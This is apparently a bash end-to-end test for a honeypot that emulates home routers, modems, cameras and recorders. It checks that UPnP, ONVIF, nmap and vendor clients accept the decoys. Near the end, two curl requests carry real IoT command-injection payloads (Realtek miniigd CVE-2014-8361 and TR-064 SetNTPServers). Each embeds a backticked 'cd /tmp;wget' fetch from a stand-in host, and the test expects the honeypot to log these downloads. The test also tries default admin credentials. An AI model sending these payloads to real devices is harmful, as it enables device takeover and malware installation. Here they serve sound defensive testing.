#!/bin/bash
# Home routers, cameras and recorders met with their own clients: upnpc, onvif-util, curl, nmap.
#   tests/e2e/iot.sh      needs root, for a network where searches reach the decoys
. "$(dirname "$0")/lib.sh"
need_root
for client in ip curl nmap upnpc xmllint python3; do command -v $client >/dev/null || skip "$client is missing"; done
INSIDE=kansoku-iot-$$
ip netns add $INSIDE || skip "network namespaces cannot be made here"
ip -n $INSIDE link set lo up multicast on
ip -n $INSIDE route add 239.0.0.0/8 dev lo src 127.0.0.1
ip -n $INSIDE route add local 11.7.0.0/24 dev lo
within() { ip netns exec $INSIDE timeout 20 "$@"; }
declare -A at
n=0
for persona in camera dvr router modem ont nvr ipcam nas tvbox; do at[$persona]=11.7.0.$((++n)); done
{
	printf 'passive:\n  workers: 1\n  decoys:\n'
	for persona in "${!at[@]}"; do printf '    - {prefix: %s, personas: [%s]}\n' ${at[$persona]} $persona; done
	printf '  services:\n'
	for service in cwmp upnp ssdp onvif wsdiscovery rtsp sofia dahua hikvision telnet http; do printf '    %s: {}\n' $service; done
} | loopback_config
KANSOKU=$(realpath "$KANSOKU")
ip netns exec $INSIDE "$KANSOKU" run --config "$CONFIG" --only passive,journal,control,store >>"$LOG" 2>&1 &
KANSOKU_PID=$!
for _ in $(seq 300); do
	[ -e "$STATE/run/ready" ] && break
	kill -0 $KANSOKU_PID 2>/dev/null || fail "kansoku ended at its start"
	sleep 0.1
done
# A look of nmap at each, beside all that follows.
NMAP=
for place in modem:7547 ont:7547 router:49152 camera:8899 ipcam:8000; do
	within nmap -n -Pn -sV --version-light --script +http-vuln-misfortune-cookie -p ${place#*:} ${at[${place%:*}]} >"$WORK/nmap.${place%:*}" 2>&1 &
	NMAP="$NMAP $!"
done
ip netns exec $INSIDE python3 tests/e2e/multicast_relay.py 1900 ${at[router]} ${at[ont]} ${at[nas]} ${at[tvbox]} >"$WORK/relay" &
ip netns exec $INSIDE python3 tests/e2e/multicast_relay.py 3702 ${at[camera]} ${at[dvr]} >>"$WORK/relay" &
for _ in $(seq 50); do [ "$(grep -c listening "$WORK/relay")" = 2 ] && break; sleep 0.1; done

# Cameras: the search says where ONVIF is, which says where the video is.
video=$(within python3 tests/e2e/iot_client.py onvif ${at[camera]} admin admin) || fail "a client of ONVIF's is not content"
[ "$(within curl -s -o /dev/null -w '%{http_code}' "$video")" = 200 ] || fail "no RTSP where ONVIF says it is, $video"
# onvif-util gives a search half a second, which is little on a busy machine, and may end with a fault of its own.
if command -v onvif-util >/dev/null; then
	printf 'get rtsp\nquit\n' >"$WORK/words"
	within stdbuf -o0 onvif-util -u admin -p admin ${at[camera]} <"$WORK/words" >"$WORK/onvif" 2>/dev/null
	grep -q successfully "$WORK/onvif" && ! grep -q "$video" "$WORK/onvif" && fail "onvif-util finds no video: $(cat "$WORK/onvif")"
fi

# UPnP: a search finds the gateways, whose descriptions are where it says, and who maps ports finds them again.
within upnpc -m 127.0.0.1 -l >"$WORK/upnpc" 2>&1
grep -q "ExternalIPAddress = 11.7.0" "$WORK/upnpc" || fail "upnpc finds no gateway: $(cat "$WORK/upnpc")"
while read -r persona location; do
	url=http://${at[$persona]}:$location
	within curl -sf "$url" >"$WORK/description" || fail "$persona: nothing is at $url"
	xmllint --noout "$WORK/description" || fail "$persona: its description is no XML"
	# What the description names is there, too.
	for path in $(grep -o '<SCPDURL>[^<]*' "$WORK/description" | sed 's/.*>//'); do
		within curl -sf "http://${at[$persona]}:${location%%/*}$path" | xmllint --noout - || fail "$persona: no service at $path"
	done
done <<-EOT
	router 49152/gatedesc.xml
	ont 52869/picsdesc.xml
	nas 50001/desc/device.xml
	tvbox 49152/description.xml
EOT
for gateway in router:49152/gatedesc.xml ont:52869/picsdesc.xml; do
	url=http://${at[${gateway%%:*}]}:${gateway#*:}
	within upnpc -u "$url" -e proxy -a 192.168.0.9 3389 33890 TCP | grep -q 'is redirected to internal 192.168.0.9:3389' ||
		fail "${gateway%%:*}: no mapping is made"
	within upnpc -u "$url" -l | grep -q "TCP 33890->192.168.0.9:3389  'proxy'" || fail "${gateway%%:*}: the mapping is forgotten"
	within upnpc -u "$url" -d 33890 TCP | grep -q 'returned : 0' || fail "${gateway%%:*}: the mapping cannot be removed"
	within upnpc -u "$url" -l | grep -q 33890 && fail "${gateway%%:*}: a removed mapping is back"
done
# CVE-2014-8361, at Realtek's; CVE-2016-10372, at RomPager's.
within curl -s -H 'SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' "http://${at[ont]}:52869/picsdesc.xml" -d \
	'<s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`cd /tmp;wget http://198.51.100.9/rtk`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>' |
	grep -q AddPortMappingResponse || fail "ont: miniigd refuses a command"
within curl -s -H 'SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers' "http://${at[modem]}:7547/UD/act?1" -d \
	'<e:Envelope><e:Body><u:SetNTPServers><NewNTPServer1>`cd /tmp;wget http://198.51.100.9/ntp`</NewNTPServer1></u:SetNTPServers></e:Body></e:Envelope>' |
	grep -q SetNTPServersResponse || fail "modem: TR-064 refuses a command"
[ "$(within curl -so /dev/null -w '%{http_code}' --digest -u admin:1234 "http://${at[ont]}:7547/tr069")" = 401 ] || fail "ont: a connection request is let in"

# Recorders.
within python3 tests/e2e/iot_client.py sofia ${at[dvr]} admin 12345 || fail "a client of Xiongmai's is not content"
within python3 tests/e2e/iot_client.py dahua ${at[nvr]} admin admin || fail "a client of Dahua's is not content"

wait $NMAP
for claim in 'modem RomPager 4.07' 'ont gSOAP 2.7' 'router Portable SDK for UPnP devices 1.4.7' 'camera gSOAP 2.8' 'ipcam Hikvision IPCam control port'; do
	grep -q "^[0-9]*/tcp *open.*${claim#* }" "$WORK/nmap.${claim%% *}" || fail "nmap does not see $claim: $(cat "$WORK/nmap.${claim%% *}")"
done
grep -q 'State: VULNERABLE' "$WORK/nmap.modem" || fail "nmap's misfortune cookie is not taken"
grep -i honeypot "$WORK"/nmap.* && fail "nmap calls it a honeypot"
told() {
	query "SELECT kind, service, login_user, value[indexOf(field, 'command.line')], value[indexOf(field, 'file.url')], value[indexOf(field, 'file.how')]
		FROM events" >"$WORK/events" 2>/dev/null
}
for wanted in 'file.captured	cwmp.*http://198.51.100.9/ntp' 'file.captured	upnp.*http://198.51.100.9/rtk' 'command.sent	cwmp.*CVE-2014-9222' \
	'command.sent	upnp.*AddPortMapping.*NewInternalClient=192.168.0.9' 'login.tried	sofia	admin' 'login.tried	dahua	admin' 'login.tried	onvif	admin' \
	'login.tried	cwmp	admin' 'command.sent	sofia.*OPMachine' 'command.sent	dahua	.*accounts' 'file.captured	sofia.*upload'; do
	for _ in $(seq 40); do
		grep -qs "^$wanted" "$WORK/events" && continue 2
		sleep 0.25
		told
	done
	fail "not recorded: $wanted: $(grep -v session "$WORK/events" | head -40)"
done
stop_kansoku || fail "kansoku did not end well"
echo "ok: gateways, cameras and recorders please $(ls /usr/bin/upnpc /usr/bin/onvif-util 2>/dev/null | wc -l) clients of their own and nmap"
